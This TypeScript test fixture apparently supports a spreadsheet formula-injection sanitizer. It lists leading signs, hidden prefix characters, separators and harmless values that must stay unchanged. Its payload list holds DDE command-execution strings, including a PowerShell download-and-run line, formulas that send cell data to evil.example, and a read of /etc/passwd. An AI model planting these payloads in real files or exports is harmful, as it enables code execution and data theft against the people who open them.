const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−'];

/** Put before a sign: what programs drop or read over. */
const BEFORE: Record<string, string> = {
  nothing: '',
  'a space': ' ',
  spaces: '   ',
  'a tab': '\t',
  'a line feed': '\n',
  'a carriage return': '\r',
  'a line end': '\r\n',
  'an apostrophe': "'",
  'a quote': '"',
  'two quotes': '""',
  'a no-break space': '\u00a0',
  'an em space': '\u2003',
  'an ideographic space': '\u3000',
  'a line separator': '\u2028',
  'a zero-width space': '\u200b',
  'a zero-width joiner': '\u200d',
  'a word joiner': '\u2060',
  'a byte-order mark': '\uFEFF',
  'a soft hyphen': '\u00ad',
  'a right-to-left mark': '\u200f',
  'a right-to-left override': '\u202e',
  'an isolate': '\u2066',
  'a backspace': '\b',
  'an escape': '\x1b',
  'all at once': ' \u200b"\'\uFEFF\t',
};

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget 0.0.0.0/a)'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMAGE("http://evil.example/?"&A1)',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTDATA("http://evil.example/")',
  "='file:///etc/passwd'#$passwd.A1",
  '=1+1";=1+1',
  '=1,=2',
  '=1;=2',
  '-1-1',
  '-5+HYPERLINK("x")',
  '+48 123 456',
  '+1e5',
  '-.5',
  '-A1',
  '--5',
  '-',
  '=',
  '\t',
  '\r',
  '\n',
];

/** Every sign, every payload, and a formula behind everything that can stand before one. */
export const FORMULAS: string[] = [
  ...SIGNS.map((sign) => `${sign}SUM(A1)`),
  ...PAYLOADS,
  ...Object.values(BEFORE).flatMap((before) => ['=', '@', '－'].map((sign) => `${before}${sign}1+1`)),
];

/** What looks alike and is none: it must come out as it went in. */
export const HARMLESS = [
  '-5',
  '+3.2',
  '-1,234.50',
  '-12%',
  '0',
  '1=1',
  'a@b.example',
  'e-mail',
  "it's",
  '"quoted"',
  ' x ',
  '',
];

/** What parts fields or rows, for a spreadsheet that takes no quotes for quotes there. */
export const SEPARATORS = [',', ';', '\t', '|', '\n', '\r', '\r\n', '; ', ';"', ';\u200b'];

/** Payloads that do something: sums of numbers behind a separator are left alone, for they look like bullets and ranges. */
export const WORKING_FORMULAS = PAYLOADS.filter((payload) => /^[=@]|[(|!#]/.test(payload));
